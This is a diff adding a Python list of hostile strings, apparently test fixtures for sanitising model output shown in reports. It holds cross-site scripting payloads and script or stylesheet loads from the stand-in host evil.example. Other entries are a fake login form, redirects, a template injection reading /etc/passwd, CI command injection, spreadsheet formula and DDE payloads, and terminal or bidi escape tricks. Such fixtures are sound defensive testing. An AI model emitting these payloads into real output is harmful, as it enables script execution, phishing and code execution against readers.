@@ -1,0 +1,28 @@
+"""What a model may say to whoever reads a report: each line tries to be more than text somewhere."""
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "</pre></details><script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "\"><iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "' onmouseover='alert(1)",
+    "<a href='javascript:alert(1)'>here</a>",
+    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><input name=key><button>Log in</button></form>",
+    "<!-- --><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;",
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\u202egnp.exe \u2066hidden\u2069 \u2028 \ufeff \x1b[2J\x1b]0;title\x07",
+    "![beacon](https://evil.example/b.png) [click](javascript:alert(1)) <https://evil.example>",
+    "| a | table | row |\n|---|---|---|\n# A heading\n```\ncode",
+    "@everyone see #1 and https://evil.example",
+    "done\n::error file=app.py,line=1::not ours\n::add-mask::x%0A::stop-commands::y",
+    '=HYPERLINK("https://evil.example","click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
